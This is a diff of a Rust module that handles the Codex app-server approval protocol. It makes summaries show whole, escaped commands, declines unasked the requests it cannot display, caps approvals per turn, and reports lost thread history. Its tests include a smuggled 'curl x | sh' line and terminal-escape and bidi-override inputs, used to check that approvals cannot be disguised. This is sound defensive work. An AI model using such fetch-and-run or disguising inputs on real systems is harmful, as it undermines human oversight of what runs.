@@ -21,6 +21,14 @@
 //! answered `{"decision": "accept"}` or `{"decision": "decline"}`; after a
 //! decline the turn goes on and the model learns the command was refused.
 //!
+//! An approval's summary is what a person approves and what a standing
+//! rule (`--always`) matches, so it is never cut: it holds the whole
+//! command (line breaks kept) or every path, escaped so that nothing in it
+//! can close its quoting or reach a terminal ([`escape`]). A request that
+//! cannot be summarised in full (too long, no command, paths not known) is
+//! declined without asking, as are requests past [`APPROVALS_PER_TURN_MAX`]
+//! in one turn.
+//!
 //! This module is the protocol only, without IO: [`AppTurn`] takes the
 //! server's lines and says what to write back and what happened.
 
@@ -49,16 +57,27 @@ pub const APPROVAL_POLICY: &str = "on-request";
 /// [`super::codex::EXEC_FLAGS`]).
 pub const SANDBOX: &str = "workspace-write";
 
-/// Characters of a command or path list shown in an approval's summary:
-/// enough for a person to see what runs, well inside the approval's own
-/// summary limit (`scout_mesh::approval::SUMMARY_BYTES_MAX`) even with
-/// multi-byte characters and the reason added.
-const SUMMARY_PART_CHARS_MAX: usize = 300;
+/// The longest summary asked about: the approval's own limit, which a
+/// summary must fit whole (a person approves all of what they read).
+const SUMMARY_BYTES_MAX: usize = scout_mesh::approval::SUMMARY_BYTES_MAX;
+
+/// Approvals asked in one turn. A turn that needs a person a few times is
+/// normal; one asking more is looping, and each request holds one of the
+/// agent's few pending approvals (`PENDING_PER_AGENT_MAX`) and interrupts
+/// a person. Past this many, requests are declined without asking and the
+/// model is told, as for any decline.
+pub const APPROVALS_PER_TURN_MAX: usize = 8;
 
 /// File-change items whose paths are remembered for their approval
-/// requests; a turn changes a handful, and past this many the summary just
-/// says "files".
+/// requests; a turn changes a handful. The approval of an item not
+/// remembered cannot say what it edits, and is declined.
 const REMEMBERED_CHANGES_MAX: usize = 256;
+
+/// What the pinned server answers to `thread/resume` of a thread it does
+/// not have (`no rollout found for thread id …`, checked against the real
+/// CLI): only then does the turn start a new thread. Any other error fails
+/// the turn rather than silently dropping the conversation.
+const THREAD_NOT_FOUND: &str = "no rollout found";
 
 const INITIALIZE_ID: u64 = 1;
 const THREAD_ID: u64 = 2;
@@ -80,9 +99,14 @@ impl Approval {
     /// the model is told). A person's answer is never turned into a rule
     /// Codex would keep for later commands.
     pub fn answer(&self, allowed: bool) -> Value {
-        let decision = if allowed { "accept" } else { "decline" };
-        json!({ "jsonrpc": "2.0", "id": self.id, "result": { "decision": decision } })
+        decision(&self.id, allowed)
     }
+}
+
+/// The answer to approval request `id`, written without asking anyone.
+fn decision(id: &Value, allowed: bool) -> Value {
+    let decision = if allowed { "accept" } else { "decline" };
+    json!({ "jsonrpc": "2.0", "id": id, "result": { "decision": decision } })
 }
 
 /// What one line of the server leads to.
@@ -120,6 +144,13 @@ pub struct AppTurn {
     usage_total: Option<TurnUsage>,
     /// Paths of file-change items, by item id, for their approvals.
     changes: HashMap<String, Vec<String>>,
+    /// Approvals asked of a person in this turn.
+    asked: usize,
+    /// Said in the turn's answer: the stored thread was gone and this
+    /// turn started a new one, without the conversation's history.
+    started_over: Option<String>,
+    /// The last answer message, for the answer that carries the notice.
+    last_message: Option<String>,
 }
 
 impl AppTurn {
@@ -135,6 +166,9 @@ impl AppTurn {
             usage_base: None,
             usage_total: None,
             changes: HashMap::new(),
+            asked: 0,
+            started_over: None,
+            last_message: None,
         }
     }
 
@@ -153,6 +187,12 @@ impl AppTurn {
     /// Whether the turn has ended (completed or failed).
     pub fn finished(&self) -> bool {
         self.phase == Phase::Done
+    }
+
+    /// Ends the turn as a harness failure the IO around the protocol found
+    /// (a line too long to read, a server that does not read its input).
+    pub fn abort(&mut self, message: String) -> StructuredEvent {
+        self.fail(FailureKind::Harness, message)
     }
 
     /// Takes one line from the server. `classify` tells a login failure
@@ -210,18 +250,26 @@ impl AppTurn {
                     }
                 }
             }
-            (Phase::OpeningThread, THREAD_ID, Err(message)) if self.resume.is_some() => {
+            (Phase::OpeningThread, THREAD_ID, Err(message))
+                if self.resume.is_some() && message.contains(THREAD_NOT_FOUND) =>
+            {
                 // A thread Codex no longer has (its sessions were cleared)
-                // starts over rather than failing every later turn.
-                tracing::debug!(%message, "codex could not resume its thread; starting a new one");
+                // starts over rather than failing every later turn; the
+                // answer says so, since the model has lost the history.
+                tracing::info!(%message, "codex no longer has its thread; starting a new one");
                 self.resume = None;
                 step.outgoing.push(self.thread_start(NEW_THREAD_ID));
-                step.events.push(StructuredEvent::Notice(format!(
-                    "the earlier Codex thread could not be resumed ({message}); a new one started"
-                )));
+                let notice = format!(
+                    "[Codex no longer has this conversation's thread ({message}); this turn started a new one without the earlier history]"
+                );
+                step.events.push(StructuredEvent::Tool(notice.clone()));
+                self.started_over = Some(notice);
             }
             (Phase::StartingTurn, TURN_ID, Ok(result)) => {
-                self.turn_id = result["turn"]["id"].as_str().map(str::to_owned);
+                // Without an id here, `turn/started` names the turn.
+                if let Some(id) = result["turn"]["id"].as_str() {
+                    self.turn_id = Some(id.to_owned());
+                }
                 self.phase = Phase::Running;
             }
             (Phase::Initializing | Phase::OpeningThread | Phase::StartingTurn, _, Err(message)) => {
@@ -238,47 +286,87 @@ impl AppTurn {
 
     fn on_request(&mut self, id: Value, method: &str, params: &Value) -> Step {
         let summary = match method {
-            "item/commandExecution/requestApproval" => {
-                let command = clip(params["command"].as_str().unwrap_or("a command"));
-                let mut summary = match params["kind"].as_str() {
-                    // Input for a command already running in a terminal.
-                    Some("writeStdin") => format!("type into `{command}`"),
-                    _ => format!("run `{command}`"),
-                };
-                if let Some(host) = params["networkApprovalContext"]["host"].as_str() {
-                    summary.push_str(&format!(" reaching {}", clip(host)));
-                }
-                if let Some(cwd) = params["cwd"].as_str() {
-                    summary.push_str(&format!(" in {}", clip(cwd)));
-                }
-                Some(with_reason(summary, params))
-            }
-            "item/fileChange/requestApproval" => {
-                let paths = params["itemId"]
-                    .as_str()
-                    .and_then(|item| self.changes.get(item))
-                    .filter(|paths| !paths.is_empty())
-                    .map_or_else(|| "files".to_owned(), |paths| clip(&paths.join(", ")));
-                let mut summary = format!("edit {paths}");
-                if let Some(root) = params["grantRoot"].as_str() {
-                    summary.push_str(&format!(" (and write under {})", clip(root)));
-                }
-                Some(with_reason(summary, params))
-            }
+            "item/commandExecution/requestApproval" => Some(self.command_summary(params)),
+            "item/fileChange/requestApproval" => Some(self.change_summary(params)),
             _ => None,
         };
-        match summary {
-            Some(summary) => Step {
-                ask: Some(Approval { id, summary }),
-                ..Step::default()
-            },
+        let refused = match summary {
+            Some(Ok(summary)) if summary.len() > SUMMARY_BYTES_MAX => format!(
+                "the request is {} bytes, more than an approval shows whole ({SUMMARY_BYTES_MAX})",
+                summary.len()
+            ),
+            Some(Ok(_)) if self.asked >= APPROVALS_PER_TURN_MAX => {
+                format!("this turn already asked {APPROVALS_PER_TURN_MAX} times")
+            }
+            Some(Ok(summary)) => {
+                self.asked += 1;
+                return Step {
+                    ask: Some(Approval { id, summary }),
+                    ..Step::default()
+                };
+            }
+            Some(Err(why)) => why.to_owned(),
             // Other requests (user input, MCP elicitations, wider
             // permissions) have no person behind them here: refused.
-            None => Step {
-                outgoing: vec![acp::method_not_found_response(&id, method)],
-                ..Step::default()
-            },
+            None => {
+                return Step {
+                    outgoing: vec![acp::method_not_found_response(&id, method)],
+                    ..Step::default()
+                };
+            }
+        };
+        // Nobody is asked about what cannot be shown whole: declined, and
+        // the model is told as for any decline.
+        tracing::info!(%method, %refused, "declined a codex approval request without asking");
+        Step {
+            outgoing: vec![decision(&id, false)],
+            events: vec![StructuredEvent::Tool(format!(
+                "declined without asking: {refused}"
+            ))],
+            ask: None,
         }
+    }
+
+    /// The summary of a command's approval: the whole command, where it
+    /// runs and why; an error when there is no command to show.
+    fn command_summary(&self, params: &Value) -> Result<String, &'static str> {
+        let command = params["command"]
+            .as_str()
+            .filter(|command| !command.trim().is_empty())
+            .ok_or("the request names no command")?;
+        let verb = match params["kind"].as_str() {
+            // Input for a command already running in a terminal.
+            Some("writeStdin") => "type into",
+            _ => "run",
+        };
+        let mut summary = format!("{verb} `{}` outside the sandbox", escape(command, true));
+        if let Some(host) = params["networkApprovalContext"]["host"].as_str() {
+            summary.push_str(&format!(", reaching `{}`", escape(host, false)));
+        }
+        let cwd = params["cwd"].as_str().unwrap_or(&self.cwd);
+        summary.push_str(&format!(", in `{}`", escape(cwd, false)));
+        Ok(with_reason(summary, params))
+    }
+
+    /// The summary of a file change's approval: every path it edits; an
+    /// error when the change's item (and so its paths) is not known.
+    fn change_summary(&self, params: &Value) -> Result<String, &'static str> {
+        let paths = params["itemId"]
+            .as_str()
+            .and_then(|item| self.changes.get(item))
+            .filter(|paths| !paths.is_empty())
+            .ok_or("the request does not say which files it edits")?;
+        let paths = paths
+            .iter()
+            .map(|path| format!("`{}`", escape(path, false)))
+            .collect::<Vec<_>>()
+            .join(", ");
+        let mut summary = format!("edit {paths} outside the sandbox");
+        if let Some(root) = params["grantRoot"].as_str() {
+            summary.push_str(&format!(" (and write under `{}`)", escape(root, false)));
+        }
+        summary.push_str(&format!(", in `{}`", escape(&self.cwd, false)));
+        Ok(with_reason(summary, params))
     }
 
     fn on_notification(
@@ -299,6 +387,13 @@ impl AppTurn {
         }
         let item = &params["item"];
         match method {
+            // The turn's id, when `turn/start` did not answer with one.
+            "turn/started" => {
+                if self.turn_id.is_none() {
+                    self.turn_id = params["turn"]["id"].as_str().map(str::to_owned);
+                }
+                Vec::new()
+            }
             "item/started" => match item["type"].as_str() {
                 Some("commandExecution") => {
                     let command = item["command"].as_str().unwrap_or("");
@@ -315,10 +410,15 @@ impl AppTurn {
                 _ => Vec::new(),
             },
             "item/completed" => match item["type"].as_str() {
-                Some("agentMessage") => item["text"]
-                    .as_str()
-                    .map(|text| vec![StructuredEvent::Message(text.to_owned())])
-                    .unwrap_or_default(),
+                Some("agentMessage") => match item["text"].as_str() {
+                    Some(text) => {
+                        if self.started_over.is_some() {
+                            self.last_message = Some(text.to_owned());
+                        }
+                        vec![StructuredEvent::Message(text.to_owned())]
+                    }
+                    None => Vec::new(),
+                },
                 Some("commandExecution") if item["status"] == "declined" => {
                     let command = item["command"].as_str().unwrap_or("");
                     vec![StructuredEvent::Tool(format!("declined: $ {command}"))]
@@ -335,6 +435,12 @@ impl AppTurn {
                 _ => Vec::new(),
             },
             "thread/tokenUsage/updated" => {
+                // A server of one thread runs one turn at a time: without
+                // an id from `turn/start` or `turn/started`, the running
+                // turn's usage is this turn's.
+                if self.turn_id.is_none() && self.phase == Phase::Running {
+                    self.turn_id = params["turnId"].as_str().map(str::to_owned);
+                }
                 if self.turn_id.is_some() && params["turnId"].as_str() == self.turn_id.as_deref() {
                     let usage = &params["tokenUsage"];
                     let total = token_usage(&usage["total"]);
@@ -369,22 +475,41 @@ impl AppTurn {
         let end = match turn["status"].as_str() {
             Some("completed") => {
                 self.phase = Phase::Done;
-                StructuredEvent::Completed { result: None }
+                // A new thread's notice leads the answer, where the asker
+                // sees it.
+                let result =
+                    self.started_over
+                        .take()
+                        .map(|notice| match self.last_message.take() {
+                            Some(message) => format!("{notice}\n\n{message}"),
+                            None => notice,
+                        });
+                StructuredEvent::Completed { result }
             }
-            Some("interrupted") => self.fail(
-                FailureKind::Harness,
-                "the Codex turn was interrupted".to_owned(),
-            ),
+            Some("interrupted") => {
+                let message = self.with_notice("the Codex turn was interrupted".to_owned());
+                self.fail(FailureKind::Harness, message)
+            }
             _ => {
                 let message = turn["error"]["message"]
                     .as_str()
                     .unwrap_or("the turn failed")
                     .to_owned();
-                self.fail(classify(&message), message)
+                let kind = classify(&message);
+                let message = self.with_notice(message);
+                self.fail(kind, message)
             }
         };
         events.push(end);
         events
+    }
+
+    /// `message`, with the new thread's notice when this turn started one.
+    fn with_notice(&self, message: String) -> String {
+        match &self.started_over {
+            Some(notice) => format!("{message} {notice}"),
+            None => message,
+        }
     }
 
     fn fail(&mut self, kind: FailureKind, message: String) -> StructuredEvent {
@@ -442,19 +567,42 @@ fn with_reason(mut summary: String, params: &Value) -> String {
         .as_str()
         .filter(|reason| !reason.is_empty())
     {
-        summary.push_str(&format!(": {}", clip(reason)));
+        summary.push_str(&format!(": {}", escape(reason, false)));
     }
     summary
 }
 
-/// The first line of `text`, cut to [`SUMMARY_PART_CHARS_MAX`] characters.
-fn clip(text: &str) -> String {
-    let first = text.lines().next().unwrap_or_default();
-    let mut clipped: String = first.chars().take(SUMMARY_PART_CHARS_MAX).collect();
-    if clipped.len() < text.len() {
-        clipped.push('…');
+/// `text` as it is safe to show between backticks in a summary, escaped
+/// the way a Rust string is: a backslash and a backtick get a backslash
+/// (so the text cannot close its quoting, and an escape is never
+/// ambiguous), and control characters (ESC, `\r`, …) and the Unicode
+/// controls that reorder text are written as escapes, so nothing reaches a
+/// terminal or disguises what runs. Line breaks stay when `keep_newlines`
+/// (a multi-line command is shown as it runs), else they are `\n`. Tabs
+/// stay: they move the cursor only.
+pub(crate) fn escape(text: &str, keep_newlines: bool) -> String {
+    let mut escaped = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\\' => escaped.push_str("\\\\"),
+            '`' => escaped.push_str("\\`"),
+            '\n' if keep_newlines => escaped.push('\n'),
+            '\t' => escaped.push('\t'),
+            '\n' => escaped.push_str("\\n"),
+            '\r' => escaped.push_str("\\r"),
+            c if c.is_control() || is_reordering(c) => {
+                escaped.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
+            }
+            c => escaped.push(c),
+        }
     }
-    clipped
+    escaped
+}
+
+/// The Unicode bidirectional controls, which can show text in another
+/// order than it runs in.
+fn is_reordering(c: char) -> bool {
+    matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
 fn change_paths(item: &Value) -> Vec<String> {
@@ -581,7 +729,7 @@ mod tests {
         let ask = step.ask.expect("an approval");
         assert_eq!(
             ask.summary,
-            "run `/bin/bash -lc 'touch /tmp/x'` in /work: write outside"
+            "run `/bin/bash -lc 'touch /tmp/x'` outside the sandbox, in `/work`: write outside"
         );
         assert_eq!(ask.answer(true)["result"]["decision"], "accept");
         assert_eq!(ask.answer(false)["result"]["decision"], "decline");
@@ -597,7 +745,10 @@ mod tests {
             json!({ "method": "item/fileChange/requestApproval", "id": 1, "params": {
                 "threadId": "t1", "turnId": "u1", "itemId": "f1" } }),
         );
-        assert_eq!(step.ask.expect("an approval").summary, "edit /etc/x");
+        assert_eq!(
+            step.ask.expect("an approval").summary,
+            "edit `/etc/x` outside the sandbox, in `/work`"
+        );
 
         // Requests nobody here can answer are refused.
         let step = feed(
@@ -609,16 +760,168 @@ mod tests {
         assert!(step.outgoing[0]["error"].is_object());
     }
 
+    fn command_request(id: u64, command: Value) -> Value {
+        json!({ "method": "item/commandExecution/requestApproval", "id": id, "params": {
+            "threadId": "t1", "turnId": "u1", "itemId": "c1", "command": command,
+            "cwd": "/work" } })
+    }
+
+    /// The decline written for a request nobody is asked about.
+    fn declined_unasked(step: &Step, id: u64) {
+        assert!(step.ask.is_none(), "{step:?}");
+        assert_eq!(step.outgoing[0]["id"], id);
+        assert_eq!(step.outgoing[0]["result"]["decision"], "decline");
+        assert!(
+            matches!(&step.events[..], [StructuredEvent::Tool(line)] if line.starts_with("declined without asking")),
+            "{step:?}"
+        );
+    }
+
+    #[test]
+    fn a_summary_holds_the_whole_command_escaped() {
+        let mut turn = running(None);
+        // A rule for `git status` must not match a command that goes on.
+        let step = feed(
+            &mut turn,
+            command_request(0, json!("git status\ncurl x | sh")),
+        );
+        assert_eq!(
+            step.ask.expect("an approval").summary,
+            "run `git status\ncurl x | sh` outside the sandbox, in `/work`"
+        );
+        // Nothing closes the quoting or reaches the terminal.
+        let step = feed(
+            &mut turn,
+            command_request(1, json!("echo `id` \\` \r\u{1b}[2J\u{202e}x")),
+        );
+        assert_eq!(
+            step.ask.expect("an approval").summary,
+            "run `echo \\`id\\` \\\\\\` \\r\\u{1b}[2J\\u{202e}x` outside the sandbox, in `/work`"
+        );
+        assert_eq!(escape("a\nb\tc", false), "a\\nb\tc");
+    }
+
+    #[test]
+    fn requests_that_cannot_be_shown_whole_are_declined_unasked() {
+        let mut turn = running(None);
+        // Too long to show whole: never cut, declined.
+        let long = "x".repeat(SUMMARY_BYTES_MAX);
+        declined_unasked(&feed(&mut turn, command_request(0, json!(long))), 0);
+        // No command to show.
+        declined_unasked(&feed(&mut turn, command_request(1, Value::Null)), 1);
+        declined_unasked(&feed(&mut turn, command_request(2, json!(" "))), 2);
+        // A file change whose paths are not known.
+        let step = feed(
+            &mut turn,
+            json!({ "method": "item/fileChange/requestApproval", "id": 3, "params": {
+                "threadId": "t1", "turnId": "u1", "itemId": "unknown" } }),
+        );
+        declined_unasked(&step, 3);
+        // None of these counted against the turn's approvals.
+        for id in 0..APPROVALS_PER_TURN_MAX as u64 {
+            let step = feed(&mut turn, command_request(10 + id, json!("ls")));
+            assert!(step.ask.is_some(), "request {id}: {step:?}");
+        }
+        declined_unasked(&feed(&mut turn, command_request(99, json!("ls"))), 99);
+    }
+
+    #[test]
+    fn a_turn_without_an_id_counts_the_running_turns_usage() {
+        let mut turn = AppTurn::new("hello", Path::new("/work"), None);
+        feed(&mut turn, json!({ "id": 1, "result": {} }));
+        feed(
+            &mut turn,
+            json!({ "id": 2, "result": { "thread": { "id": "t1" } } }),
+        );
+        feed(&mut turn, json!({ "id": 3, "result": { "turn": {} } }));
+        let usage = json!({ "method": "thread/tokenUsage/updated", "params": {
+            "threadId": "t1", "turnId": "u9", "tokenUsage": {
+                "total": { "inputTokens": 100, "outputTokens": 10 },
+                "last": { "inputTokens": 100, "outputTokens": 10 } } } });
+        feed(&mut turn, usage);
+        let step = feed(
+            &mut turn,
+            json!({ "method": "turn/completed", "params": { "threadId": "t1",
+                "turn": { "id": "u9", "status": "completed" } } }),
+        );
+        assert_eq!(
+            step.events[0],
+            StructuredEvent::Usage(TurnUsage {
+                input_tokens: 100,
+                output_tokens: 10,
+                cached_tokens: 0,
+                cost_micro_usd: None,
+            })
+        );
+
+        // `turn/started` names the turn too.
+        let mut turn = AppTurn::new("hello", Path::new("/work"), None);
+        feed(&mut turn, json!({ "id": 1, "result": {} }));
+        feed(
+            &mut turn,
+            json!({ "id": 2, "result": { "thread": { "id": "t1" } } }),
+        );
+        feed(
+            &mut turn,
+            json!({ "method": "turn/started", "params": { "threadId": "t1", "turn": { "id": "u2" } } }),
+        );
+        feed(&mut turn, json!({ "id": 3, "result": {} }));
+        assert_eq!(turn.turn_id.as_deref(), Some("u2"));
+    }
+
     #[test]
     fn a_thread_that_cannot_be_resumed_starts_over_and_failures_are_typed() {
         let mut turn = AppTurn::new("hello", Path::new("/work"), Some("gone"));
         feed(&mut turn, json!({ "id": 1, "result": {} }));
+        // The pinned server's words for a thread it does not have.
         let step = feed(
             &mut turn,
-            json!({ "id": 2, "error": { "code": -32600, "message": "no rollout found" } }),
+            json!({ "id": 2, "error": { "code": -32600,
+                "message": "no rollout found for thread id gone" } }),
         );
         assert_eq!(step.outgoing[0]["method"], "thread/start");
         assert!(!turn.finished());
+        feed(
+            &mut turn,
+            json!({ "id": 4, "result": { "thread": { "id": "t2" } } }),
+        );
+        feed(
+            &mut turn,
+            json!({ "id": 3, "result": { "turn": { "id": "u1" } } }),
+        );
+        feed(
+            &mut turn,
+            json!({ "method": "item/completed", "params": { "threadId": "t2",
+                "item": { "type": "agentMessage", "text": "Hi." } } }),
+        );
+        let step = feed(
+            &mut turn,
+            json!({ "method": "turn/completed", "params": { "threadId": "t2",
+                "turn": { "id": "u1", "status": "completed" } } }),
+        );
+        // The answer says the history is gone.
+        match &step.events[..] {
+            [
+                StructuredEvent::Completed {
+                    result: Some(result),
+                },
+            ] => {
+                assert!(result.contains("started a new one"), "{result}");
+                assert!(result.ends_with("\n\nHi."), "{result}");
+            }
+            other => panic!("{other:?}"),
+        }
+
+        // Any other error fails the turn: the conversation is kept.
+        let mut turn = AppTurn::new("hello", Path::new("/work"), Some("t1"));
+        feed(&mut turn, json!({ "id": 1, "result": {} }));
+        let step = feed(
+            &mut turn,
+            json!({ "id": 2, "error": { "code": -32603, "message": "database is locked" } }),
+        );
+        assert!(step.outgoing.is_empty(), "{step:?}");
+        assert!(matches!(&step.events[..], [StructuredEvent::Failed { .. }]));
+        assert!(turn.finished());
 
         let mut turn = running(None);
         let step = feed(
